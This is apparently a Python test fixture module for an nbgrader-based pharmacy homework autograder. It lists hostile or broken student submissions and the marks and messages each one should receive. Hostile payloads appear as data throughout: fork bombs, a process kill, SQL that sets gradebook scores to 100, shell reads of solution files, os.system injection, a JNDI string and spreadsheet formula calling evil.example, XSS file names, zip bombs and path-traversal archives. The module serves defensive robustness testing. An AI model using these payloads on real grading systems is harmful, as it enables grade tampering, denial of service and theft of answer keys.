"""The hostile set: what a hostile or broken hand-in looks like, how it comes in, what it earns and what is said of it.

Each case is a student of its own, ``H-01``, ``H-02`` ... in the order of ``CASES``. Unless said otherwise the notebook
answers q1 rightly and q2 not at all, has no bench record and an empty written answer: its honest content is q1.
"""

from __future__ import annotations

import json
import stat
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from enum import Enum
from typing import Any

from pharmcalc.bench import file_name
from pharmcalc.bench.record import FORM
from pharmcalc.classroom.cells import cells_by_id, source_of
from pharmcalc.tasks.papers import read_issue
from tests.classroom.building import answered
from tests.classroom.hostile_parts import (
    HACK,
    SCRIPT,
    SCRIPTS,
    SIGNS,
    Change,
    Files,
    Link,
    Notebook,
    Pipe,
    as_bytes,
    bomb,
    changed,
    code,
    deep,
    entry,
    forged_outputs,
    half_right,
    lying_about_sizes,
    old_format,
    overlapping,
    pointing_to_itself,
    rewritten,
    scripts_everywhere,
    settings,
    told,
    without,
    zipped,
)

NAME = "week-1"
FAMILIES = ("least-weighable-quantity", "aliquot-plan", "bench-weighing")
HONEST = ("A-01", "A-02", "A-03", "A-04")
OWNER = "A-01"
"""The honest student whose work others try to take, to push out or to spoil."""
RECORD = file_name("q3")
Q1 = 2.0
MB = 2**20

Release = Mapping[str, Any]


class Way(Enum):
    """How a hand-in comes in."""

    FOLDER = "with the class, in one folder"
    ZIP = "in a zip of its own"
    STRAIGHT = "laid into submitted/, as nbgrader's own exchange does"


@dataclass(frozen=True)
class Case:
    """One hostile or broken hand-in.

    ``make`` returns its files for the release and the student's number (for a zip: the zip, by any name).
    ``earns``: the marks of its honest content; it must get these and no more. ``says``: what its reason must say;
    empty where it is marked like any other hand-in and there is nothing to tell.
    """

    name: str
    make: Callable[[Release, str], Files]
    earns: float = Q1
    says: str = ""
    way: Way = Way.FOLDER
    marked: bool = True


def numbered() -> dict[str, Case]:
    """Return the cases by their student's number."""
    return {f"H-{place:02}": case for place, case in enumerate(CASES, 1)}


# Makers that need more than a change of the notebook -----------------------------------------------------------------


def in_zip(pack: Callable[[str, bytes], bytes]) -> Callable[[Release, str], Files]:
    """Return a maker of a zip from the student's number and notebook."""
    return lambda release, number: {"parcel.zip": pack(number, as_bytes(half_right(release, number)))}


def straight(**more: Any) -> Callable[[Release, str], Files]:
    """Return a maker of a hand-in in submitted/, with other things beside the notebook."""

    def make(release: Release, number: str) -> Files:
        beside = {name.replace("__", "."): thing for name, thing in more.items()}
        return {f"{NAME}.ipynb": as_bytes(half_right(release, number)), **beside}

    return make


def as_it_is(nb: Any, name: str = "{number}/work.ipynb") -> Callable[[Release, str], Files]:
    """Return a maker of a file that is no notebook of ours at all."""
    data = nb if isinstance(nb, bytes) else as_bytes(nb)
    return lambda _, number: {name.format(number=number): data}


def named(name: str) -> Callable[[Release, str], Files]:
    """Return a maker of a notebook under a name."""
    return lambda release, number: {name.format(number=number): as_bytes(half_right(release, number))}


def with_record(write: Callable[[Release, str], str | bytes]) -> Callable[[Release, str], Files]:
    """Return a maker of a hand-in with a bench record."""

    def make(release: Release, number: str) -> Files:
        text = write(release, number)
        record = text.encode() if isinstance(text, str) else text
        return {f"{number}/work.ipynb": as_bytes(half_right(release, number)), f"{number}/{RECORD}": record}

    return make


def by_the_book(release: Release, number: str) -> str:
    """Return the record of somebody who works by the book."""
    return read_issue(release).paper(number, 1).task("q3").answer_lines()


def with_lines(*lines: Any) -> Callable[[Release, str], str]:
    """Return a record of the student's own order, with lines of one's own."""
    return lambda release, number: json.dumps({**json.loads(by_the_book(release, number)), "done": list(lines)})


def nicer_reading(release: Release, number: str) -> str:
    """Return a record that says that the display showed something nicer."""
    found = json.loads(by_the_book(release, number))
    found["done"][-1][2] = "0.000 g"
    return json.dumps(found)


def marks_of_its_own(release: Release, number: str) -> str:
    """Return a record in which nothing was done, and which says that it is right."""
    return json.dumps({**json.loads(by_the_book(release, number)), "done": [], "marks": 20, "cleared": True})


def answers_of(owner: str, typed: str = "") -> Callable[[Release, str], Files]:
    """Return a maker of a notebook that answers another student's paper, all of it rightly."""
    return lambda release, number: {
        f"{number}/work.ipynb": as_bytes(answered(release, owner, typed=typed.format(number=number) or None))
    }


def two_notebooks(release: Release, number: str) -> Files:
    """Return two notebooks of one student that differ, and no telling which is newer."""
    empty = answered(release, number, {"q1": "", "q2": ""})
    return {f"{number}/a.ipynb": as_bytes(empty), f"{number}/b.ipynb": as_bytes(half_right(release, number))}


def in_the_name_of_the_owner(name: str) -> Callable[[Release, str], Files]:
    """Return a maker of a bad notebook that claims, by its name or by the number in it, to be the owner's."""
    return lambda release, number: {
        name.format(number=number, owner=OWNER): as_bytes(answered(release, OWNER, {"q1": "", "q2": ""}))
    }


def split_cells(nb: Notebook) -> None:
    """Split every answer and mark cell in two, as JupyterLab does: both halves have the same settings and ids."""
    cells = []
    for cell in nb["cells"]:
        head, _, rest = source_of(cell).partition("\n")
        cells += [{**cell, "source": head}, {**cell, "source": rest}] if "-q" in cell["id"] else [cell]
    nb["cells"] = cells


def copied_locked_cells(nb: Notebook) -> None:
    """Copy the mark cells with more points, and let a copy name another task."""
    for cell in [c for c in nb["cells"] if c["id"].startswith("mark-")]:
        for name in (cell["id"], "mark-q1", "mark-q9"):
            settings = {**cell["metadata"]["nbgrader"], "points": 100, "grade_id": name}
            nb["cells"].append({**cell, "source": "100", "metadata": {"nbgrader": settings}})


def many_cells(count: int) -> Change:
    """Return a change that adds cells."""
    return lambda nb: nb["cells"].extend(
        {"cell_type": "code", "id": f"c{n}", "metadata": {}, "source": f"{n}", "outputs": [], "execution_count": n}
        for n in range(count)
    )


def second_answers(nb: Notebook) -> None:
    """Answer the same task in a thousand cells, each time otherwise."""
    many_cells(1000)(nb)
    for n, cell in enumerate(nb["cells"][-1000:]):
        cell["source"] = f"%%answer q1\nleast weighable quantity = {n} mg"


def printed(size: int) -> Change:
    """Return a change that prints much in the cell of q1."""
    output = {"output_type": "stream", "name": "stdout", "text": "x" * size}
    return lambda nb: cells_by_id(nb)["mark-q1"].update(outputs=[output])


def odd_cells(nb: Notebook) -> None:
    """Give cells values of kinds that no notebook has."""
    nb["cells"] += [
        {"cell_type": ["code"], "metadata": 7, "source": {"a": [None]}, "id": {"x": 1}},
        {"cell_type": None, "metadata": {"nbgrader": ["grade"]}, "source": 7},
        {"cell_type": "markdown", "metadata": {"nbgrader": {"grade_id": ["mark-q2"]}}, "source": None},
        {"cell_type": "code", "metadata": None, "source": [1, None, ["%%answer q2"]]},
    ]


def deep_metadata(nb: Notebook) -> None:
    """Hide lists in lists in nbgrader's settings and in a source, shallow enough to be read."""
    cells_by_id(nb)["answer-q1"]["metadata"]["nbgrader"]["deep"] = deep(700)
    nb["cells"].append({"cell_type": "code", "metadata": {"deep": deep(700)}, "source": deep(700), "outputs": []})


ANSWERS = {
    "a number a million digits long": "9" * 1_000_000,
    "9**9**9": "9**9**9",
    "a tower of powers": "10^10^10^10 mg = 1e999999999 mg",
    "deep parentheses": "(" * 90 + "1" + ")" * 90 + " mg",
    "not a number": "nan mg = inf mg = -inf mg",
    "Python": "__import__('os').system('touch owned') or 12 mg",
    "a formula of a spreadsheet": '=HYPERLINK("https://evil.example";"x")+cmd|\' /C calc\'!A0',
    "a chain of a thousand steps": " = ".join(["1 mg"] * 1000),
    "a format string": "{0.__class__.__init__.__globals__} %s%n ${jndi:ldap://evil.example/a}",
}
SYSTEM_CALLS = (
    "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)",
    "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
    "import os\nwhile True: os.fork()",
    "import os\nos._exit(0)",
    "print('x' * 50_000_000)",
    "import sqlite3\nb = sqlite3.connect('../../../gradebook.db')\nb.execute('update grade set auto_score = 100')",
    "import os\nos.remove('week-1.ipynb'); os.symlink('../../../gradebook.db', 'week-1.ipynb')",
    "import builtins\nclass Same(float):\n    __eq__ = __ge__ = lambda *_: True\nbuiltins.float = Same",
    "%%bash\ntouch owned; cat ../../../solutions/*/*",
    f"%%javascript\n{HACK}",
)

CASES = (
    # The facts: what stock nbgrader does with bad submissions --------------------------------------------------------
    Case("code that loops, forks, kills, exits, prints, writes to the gradebook", changed(code(*SYSTEM_CALLS))),
    Case("locked cells deleted", changed(without("setup", "mark-q1", "mark-q2", "task-q2")), says="it was put back"),
    Case("locked cell edited", changed(told("mark-q2", "12")), says="the locked cell was changed"),
    Case("cut off", rewritten(lambda text: text[:-900]), 0, "breaks off", marked=False),
    Case("empty", as_it_is(b""), 0, "the file is empty", marked=False),
    Case("blanks only", as_it_is(b" \n" * 1000), 0, "the file is empty", marked=False),
    Case("50 MB printed", changed(printed(50 * MB)), 0, "larger than 20 MB", marked=False),
    Case("15 MB printed", changed(printed(15 * MB))),
    Case("format 2", rewritten(lambda text: as_bytes(old_format(json.loads(text), 2)))),
    Case("format 3", rewritten(lambda text: as_bytes(old_format(json.loads(text), 3)))),
    Case("format 99", rewritten(lambda t: t.replace('"nbformat": 4', '"nbformat": 99')), 0, "format 99", marked=False),
    Case(
        "format of no number",
        rewritten(lambda t: t.replace('"nbformat": 4', '"nbformat": NaN')),
        0,
        "format",
        marked=False,
    ),
    Case("a link to the gradebook", lambda *_: {f"{NAME}.ipynb": Link("gradebook.db")}, 0, "link", Way.STRAIGHT, False),
    Case(
        "a file that shadows a library",
        lambda r, n: {**named("{number}/work.ipynb")(r, n), f"{n}/pint.py": b"raise SystemExit"},
    ),
    # The lessons -----------------------------------------------------------------------------------------------------
    Case("forged output: full marks", changed(forged_outputs("2"))),
    Case("forged output: 1.5 of 2", changed(forged_outputs("1.5 of 2"))),
    Case("forged output: nan", changed(forged_outputs("nan"))),
    Case("forged output: too many", changed(forged_outputs("100"))),
    Case("points 100", changed(settings(points=100))),
    Case(
        "every cell claims to be mark-q2",
        changed(settings(grade_id="mark-q2", grade=True, solution=True)),
        0,
        "deleted",
    ),
    Case("settings of nbgrader's first form", changed(settings(schema_version=1))),
    Case("settings of a form to come", changed(settings(schema_version=99))),
    Case("settings of wrong kinds", changed(settings(grade="yes", locked=[], points="NaN", cell_type={}))),
    Case("split answer and mark cells", changed(split_cells)),
    Case("copied locked cells with more points", changed(copied_locked_cells), says="changed"),
    Case("answer and mark cell both gone", changed(without("answer-q1", "mark-q1")), 0, "the answer cell was deleted"),
    Case("scripts in every field", changed(scripts_everywhere), says="changed"),
    Case("another student's answers, and number", answers_of(OWNER), 0, f"the number on the sheet is {OWNER}"),
    Case("another student's answers, own number", answers_of(OWNER, "{number}"), 0),
    Case(
        "thousands of answer lines",
        changed(lambda nb: told("answer-q1", "%%answer q1\n" + "multiple factor = 1\n" * 5000)(nb)),
        0,
        "cut",
    ),
    *(
        Case(f"answer: {what}", changed(told("answer-q2", f"%%answer q2\nmultiple factor = {text}")))
        for what, text in ANSWERS.items()
        if len(text) < 10_000
    ),
    Case(
        "answer: a number a million digits long",
        changed(told("answer-q2", f"%%answer q2\nmultiple factor = {ANSWERS['a number a million digits long']}")),
        says="longer than",
    ),
    # JSON and encodings ----------------------------------------------------------------------------------------------
    Case("deep JSON", as_it_is(b"[" * 200_000), 0, "not a notebook", marked=False),
    Case(
        "deep JSON in a notebook",
        rewritten(lambda t: t[:-1] + ', "x": ' + "[" * 90_000 + "]" * 90_000 + "}"),
        0,
        "not a notebook",
        marked=False,
    ),
    Case("lists in lists in settings", changed(deep_metadata)),
    Case("references to itself", changed(pointing_to_itself)),
    Case("a million small lists", rewritten(lambda t: t[:-1] + ', "x": [' + "[]," * 1_000_000 + "0]}")),
    Case("10,000 cells", changed(many_cells(10_000)), 0, "cells", marked=False),
    Case("1,900 cells", changed(many_cells(1_900)), says="only the first 60"),
    Case("a thousand second answers", changed(second_answers), says="a second cell begins with %%answer q1"),
    Case("cells of odd kinds", changed(odd_cells)),
    Case("50 MB of text", as_it_is(b"x" * (50 * MB)), 0, "larger than 20 MB", marked=False),
    Case("a single line of 19 MB", changed(told("answer-q2", "x" * (19 * MB))), says="longer than"),
    Case("a note of 19 MB", changed(lambda nb: code("y" * (9 * MB))(nb))),
    Case(
        "a number of a million digits in the JSON",
        rewritten(lambda t: t[:-1] + ', "x": ' + "9" * 1_000_000 + "}"),
        0,
        "not a notebook",
        marked=False,
    ),
    Case("NaN and Infinity", rewritten(lambda t: t[:-1] + ', "x": [NaN, -Infinity, 1e999]}')),
    Case("the same key twice", rewritten(lambda t: t[:-1] + ', "nbformat": 4, "metadata": {"a": 1, "a": 2}}')),
    Case("UTF-16", rewritten(lambda t: t.encode("utf-16"))),
    Case("with a byte order mark", rewritten(lambda t: t.encode("utf-8-sig"))),
    Case("Latin-1", rewritten(lambda t: t.replace("A test", "\xc4 test").encode("latin-1")), 0, "UTF-8", marked=False),
    Case("NUL", rewritten(lambda t: t.encode() + b"\x00" * 500), 0, "not a notebook", marked=False),
    Case("control signs and half characters", changed(told("explain-1", SIGNS * 20))),
    Case("control signs in labels", changed(told("answer-q2", f"%%answer q2\nmultiple factor{SIGNS} = {SIGNS}30"))),
    Case("not a notebook but JSON", as_it_is({"cells": []}), 0, "not a notebook", marked=False),
    Case("cells that are none", as_it_is({"nbformat": 4, "cells": "abc"}), 0, "cannot be read", marked=False),
    Case("cells in a dictionary", as_it_is({"nbformat": 4, "cells": {"a": 1}}), 0, "cannot be read", marked=False),
    Case(
        "worksheets that are none",
        as_it_is({"nbformat": 3, "worksheets": [[[]], 7]}),
        0,
        "cannot be read",
        marked=False,
    ),
    Case(
        "format 1",
        as_it_is({"nbformat": 1, "cells": [{"cell_type": "code", "code": "1"}]}),
        0,
        "not made from an issued",
        marked=False,
    ),
    Case(
        "another assignment's",
        changed(told("setup", 'notebook.begin("week-9", version=1)')),
        0,
        "the notebook of week-9",
        marked=False,
    ),
    Case(
        "an assignment with a hostile name",
        changed(told("setup", f"notebook.begin('{SCRIPT}\n{SIGNS}')")),
        0,
        "ask for the right one",
        marked=False,
    ),
    Case("a number with a script", changed(told("student", f"%%student\nstudent number = {SCRIPTS[0]}\nattempt = 1"))),
    Case(
        "attempt 99",
        changed(told("student", "%%student\nstudent number = A-02\nattempt = 99")),
        says="the number on the sheet is A-02",
    ),
    # Names and files -------------------------------------------------------------------------------------------------
    Case("two notebooks of one student", two_notebooks, says="an earlier notebook"),
    Case(
        "a bad notebook in another's name",
        in_the_name_of_the_owner("{number}/{owner}.ipynb"),
        0,
        "find out whose",
        marked=False,
    ),
    Case(
        "a bad notebook with another's number",
        in_the_name_of_the_owner("zz {number}x/work.ipynb"),
        0,
        "find out whose",
        marked=False,
    ),
    Case("a name with a script", named("{number}/<img src=x onerror=alert(1)>.ipynb")),
    Case(
        "a name that a spreadsheet computes",
        as_it_is(b"", "={number}+cmd;=1+1.ipynb"),
        0,
        "the file is empty",
        marked=False,
    ),
    Case(
        "a name with control signs",
        as_it_is(b"", "{number} \u202e\x1b[31m\x07.ipynb"),
        0,
        "the file is empty",
        marked=False,
    ),
    Case("a name that is no text", as_it_is(b"", "{number} \udcff\udcfe.ipynb"), 0, "the file is empty", marked=False),
    Case("a name with [ and ]", named("{number} [a-z]?*[!x].ipynb")),
    Case(
        "a name with markup of the terminal",
        as_it_is(b"", "{number} [bold red][/].ipynb"),
        0,
        "the file is empty",
        marked=False,
    ),
    Case("a very long name", named("{number}/" + "x" * 240 + ".ipynb")),
    Case("a link to a file", lambda _, n: {f"{n}/work.ipynb": Link("victim")}, 0, "link", marked=False),
    Case(
        "a link to the gradebook among files",
        lambda _, n: {f"{n}/work.ipynb": Link("gradebook.db")},
        0,
        "link",
        marked=False,
    ),
    Case("a link to a folder", lambda _, n: {f"{n}/more": Link("victims")}, 0, "link", marked=False),
    Case("a link to nothing", lambda _, n: {f"{n}/work.ipynb": Link("nothing")}, 0, "link", marked=False),
    Case("a pipe", lambda _, n: {f"{n}/work.ipynb": Pipe()}, 0, "not a file", marked=False),
    Case("a folder with the name of a notebook", named("{number}/work.ipynb/work.ipynb")),
    # Bench records ---------------------------------------------------------------------------------------------------
    Case("record: a nicer reading", with_record(nicer_reading), says="says that the display showed"),
    Case("record: marks of its own", with_record(marks_of_its_own)),
    Case("record: another's", with_record(lambda r, _: by_the_book(r, OWNER)), says=f"the order in it is {OWNER}'s"),
    Case("record: absurdly many events", with_record(with_lines(*[["wait", "", ""]] * 50_000)), says="too many lines"),
    Case(
        "record: scripts",
        with_record(with_lines([SCRIPT, SCRIPT, SCRIPT], [HACK, SIGNS, ""])),
        says="there is no action",
    ),
    Case("record: scripts in the note", with_record(with_lines(["write", f"lot = {SCRIPT}", ""])), says="bench record"),
    Case("record: megabytes", with_record(lambda *_: b'{"' + b"x" * 9 * MB), says="far too long"),
    Case("record: deep", with_record(lambda *_: "[" * 100_000), says="cannot be read"),
    Case(
        "record: a script as order",
        with_record(lambda *_: json.dumps({"form": FORM, "order": SCRIPT})),
        says="given to nobody",
    ),
    Case(
        "record: a list as order", with_record(lambda *_: json.dumps({"form": FORM, "order": [SCRIPT]})), says="is none"
    ),
    # Zips ------------------------------------------------------------------------------------------------------------
    Case(
        "zip: a path outside",
        in_zip(lambda n, d: zipped([(f"../../{n}.ipynb", d)])),
        0,
        "leads outside",
        Way.ZIP,
        False,
    ),
    Case(
        "zip: a path from the root",
        in_zip(lambda n, d: zipped([(f"/tmp/{n}.ipynb", d)])),
        0,
        "leads outside",
        Way.ZIP,
        False,
    ),
    Case(
        "zip: a path with backslashes",
        in_zip(lambda n, d: zipped([(f"..\\..\\{n}.ipynb", d)])),
        0,
        "leads outside",
        Way.ZIP,
        False,
    ),
    Case("zip: a drive", in_zip(lambda n, d: zipped([(f"C:\\x\\{n}.ipynb", d)])), 0, "leads outside", Way.ZIP, False),
    Case("zip: a name with a colon", in_zip(lambda n, d: zipped([(f"week: 1 {n}.ipynb", d)])), way=Way.ZIP),
    Case(
        "zip: names of devices",
        in_zip(lambda n, d: zipped([(f"{n}/aux/CON.ipynb", d), (f"{n}/NUL.", b"")])),
        way=Way.ZIP,
    ),
    Case(
        "zip: a name of 60,000 letters",
        in_zip(lambda n, d: zipped([(f"{n}/{'x' * 60_000}.ipynb", b"")])),
        0,
        "the file is empty",
        Way.ZIP,
        False,
    ),
    Case(
        "zip: a thousand folders deep", in_zip(lambda n, d: zipped([(f"{n}/{'a/' * 1000}work.ipynb", d)])), way=Way.ZIP
    ),
    Case(
        "zip: a file that is a folder too",
        in_zip(lambda n, d: zipped([(f"{n}.ipynb", d), (f"{n}.ipynb/x/{n}.ipynb", d)])),
        way=Way.ZIP,
    ),
    Case(
        "zip: control signs in the name",
        in_zip(lambda n, d: zipped([(f"{n} \u202e\x1b[2J\n\x7f.ipynb", b"")])),
        0,
        "the file is empty",
        Way.ZIP,
        False,
    ),
    Case(
        "zip: the same name thousands of times",
        in_zip(lambda n, d: zipped([(f"{n}.ipynb", d[:50])] * 3000)),
        0,
        "breaks off",
        Way.ZIP,
        False,
    ),
    Case(
        "zip: a link",
        in_zip(lambda n, d: zipped([(entry(f"{n}.ipynb", stat.S_IFLNK | 0o777), b"../../gradebook.db")])),
        0,
        "link",
        Way.ZIP,
        False,
    ),
    Case(
        "zip: a pipe",
        in_zip(lambda n, d: zipped([(entry(f"{n}.ipynb", stat.S_IFIFO | 0o777), d)])),
        0,
        "not a file",
        Way.ZIP,
        False,
    ),
    Case(
        "zip: wrong sizes in its list",
        in_zip(lambda n, d: lying_about_sizes(zipped([(f"{n}.ipynb", d)]))),
        0,
        "damaged",
        Way.ZIP,
        False,
    ),
    Case("zip: bomb", in_zip(lambda n, _: bomb(f"{n}.ipynb", 60 * MB)), 0, "larger than 20 MB", Way.ZIP, False),
    Case(
        "zip: bomb in a zip",
        in_zip(lambda n, _: zipped([(f"{n}.zip", bomb("x.ipynb", 5 * MB))])),
        0,
        "zip inside the zip",
        Way.ZIP,
        False,
    ),
    Case(
        "zip: the same bytes many times",
        in_zip(lambda n, _: overlapping(f"{n}.ipynb", b" " * (8 * MB), 200)),
        0,
        "",
        Way.ZIP,
        False,
    ),
    Case(
        "zip: its list is damaged",
        in_zip(lambda n, d: (z := zipped([(f"{n}.ipynb", d)])).replace(b"PK\x01\x02", b"PK\x01\x03")),
        0,
        "damaged",
        Way.ZIP,
        False,
    ),
    Case(
        "zip: a name in no alphabet",
        in_zip(lambda n, d: zipped([(f"{n} \xe4.ipynb", d)]).replace(b"\xc3\xa4", b"\xff\xff")),
        0,
        "damaged",
        Way.ZIP,
        False,
    ),
    # Straight into submitted/ ----------------------------------------------------------------------------------------
    Case("straight: a hand-in as it should be", straight(), way=Way.STRAIGHT),
    Case(
        "straight: scripts in every field",
        lambda r, n: {f"{NAME}.ipynb": as_bytes(half_right(r, n, scripts_everywhere))},
        says="changed",
        way=Way.STRAIGHT,
    ),
    Case(
        "straight: forged outputs and settings",
        lambda r, n: {f"{NAME}.ipynb": as_bytes(half_right(r, n, forged_outputs("100")))},
        way=Way.STRAIGHT,
    ),
    Case(
        "straight: format 3",
        lambda r, n: {f"{NAME}.ipynb": as_bytes(old_format(half_right(r, n), 3))},
        way=Way.STRAIGHT,
    ),
    Case(
        "straight: old settings",
        lambda r, n: {f"{NAME}.ipynb": as_bytes(half_right(r, n, settings(schema_version=1)))},
        way=Way.STRAIGHT,
    ),
    Case(
        "straight: lists in lists",
        lambda r, n: {f"{NAME}.ipynb": as_bytes(half_right(r, n, deep_metadata))},
        way=Way.STRAIGHT,
    ),
    Case(
        "straight: 15 MB printed",
        lambda r, n: {f"{NAME}.ipynb": as_bytes(half_right(r, n, printed(15 * MB)))},
        way=Way.STRAIGHT,
    ),
    Case(
        "straight: cells of odd kinds",
        lambda r, n: {f"{NAME}.ipynb": as_bytes(half_right(r, n, odd_cells))},
        way=Way.STRAIGHT,
    ),
    Case(
        "straight: UTF-16",
        lambda r, n: {f"{NAME}.ipynb": json.dumps(half_right(r, n)).encode("utf-16")},
        way=Way.STRAIGHT,
    ),
    Case("straight: NaN", lambda r, n: {f"{NAME}.ipynb": (json.dumps(half_right(r, n))[:-1] + ', "x": NaN}').encode()}, way=Way.STRAIGHT),
    Case("straight: a link beside it to a file outside", straight(more__txt=Link("victim")), way=Way.STRAIGHT),
    Case("straight: a link beside it to the gradebook", straight(more__db=Link("gradebook.db")), way=Way.STRAIGHT),
    Case("straight: a link beside it to a folder outside", straight(more=Link("victims")), way=Way.STRAIGHT),
    Case("straight: a pipe beside it", straight(more__txt=Pipe()), way=Way.STRAIGHT),
    Case(
        "straight: a page beside it",
        straight(**{f"{NAME}__html": SCRIPT.encode(), "more__html": SCRIPT.encode()}),
        way=Way.STRAIGHT,
    ),
    Case(
        "straight: a library and other programs beside it",
        straight(
            pint__py=b"raise SystemExit", sitecustomize__py=b"raise SystemExit", nbgrader_config__py=b"raise SystemExit"
        ),
        way=Way.STRAIGHT,
    ),
    Case(
        "straight: a record that is a link",
        straight(**{RECORD.replace(".", "__"): Link("victim")}),
        says="is a link",
        way=Way.STRAIGHT,
    ),
    Case("straight: a time stamp of 5 MB", straight(timestamp__txt=b"2" * 5000), way=Way.STRAIGHT),
    Case("straight: a time stamp that is no time", straight(timestamp__txt=b"<script>"), way=Way.STRAIGHT),
    Case(
        "straight: a time stamp of the year 9999",
        straight(timestamp__txt=b"9999-12-31 23:59:59 -9999"),
        way=Way.STRAIGHT,
    ),
    Case("straight: a time stamp that is a pipe", straight(timestamp__txt=Pipe()), way=Way.STRAIGHT),
    Case("straight: no notebook", lambda *_: {"readme.txt": b"x"}, 0, "there is no week-1.ipynb", Way.STRAIGHT, False),
    Case(
        "straight: a folder in its place",
        lambda *_: {f"{NAME}.ipynb/x": b"x"},
        0,
        "there is no week-1.ipynb",
        Way.STRAIGHT,
        False,
    ),
)
